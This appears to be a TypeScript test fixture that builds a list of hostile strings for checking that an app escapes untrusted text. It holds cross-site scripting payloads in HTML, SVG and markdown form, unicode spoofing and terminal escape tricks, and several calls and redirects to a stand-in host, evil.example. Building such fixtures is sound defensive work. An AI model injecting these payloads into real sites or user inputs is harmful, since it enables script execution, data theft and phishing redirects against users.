/** What would run, ask another host or lead astray, were it anything but text. */
const scripts = ['alert(1)', 'fetch("https://evil.example/x")', 'document.body.remove()']
/** One of each kind. */
const kinds = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<style>@import url(https://evil.example/x)</style>',
  '"><b onmouseover=RUN>over</b>',
  '[link](javascript:RUN)',
  '![picture](https://evil.example/x)',
  '\u202Etxt.exe <b>RUN</b>\u202C\u2066\u200B',
  '\u001B]8;;https://evil.example/x\u0007RUN\u001B]8;;\u0007 \u001B[31mred',
]
const others = [
  '<img src=https://evil.example/x>',
  '<svg onload=RUN><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<iframe src="javascript:RUN"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<link rel=stylesheet href=https://evil.example/x>',
  '<form action=https://evil.example/x><button>Send</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/x">',
  '<base href=https://evil.example/>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '</title></style></textarea></script><script>RUN</script>',
  "'-RUN-'",
  '{{RUN}} ${RUN} <%= RUN %>',
  '[link](java\tscript:RUN)',
  '[link](data:text/html,<script>RUN</script>)',
  '[link](vbscript:RUN)',
  '<javascript:RUN>',
  '![picture](javascript:RUN)',
  '[a]: javascript:RUN "title"\n\n[a]',
  '`<script>RUN</script>`',
]

const inEach = (markup: readonly string[], run: readonly string[]) =>
  markup.flatMap((one) => run.map((script) => one.replaceAll('RUN', script)))

export const hostileTexts: readonly string[] = inEach([...kinds, ...others], scripts)

export const oneOfEachKind: readonly string[] = inEach(kinds, scripts.slice(0, 1))

/** Those that a short field takes, one after the other, and the first again after the last. */
export function inTurn(texts: readonly string[], first = 0): (most?: number) => string {
  let turn = first
  return (most = 200) => {
    const short = texts.filter((text) => text.length <= most)
    const text = short[turn % short.length] ?? ''
    turn += 1
    return text
  }
}
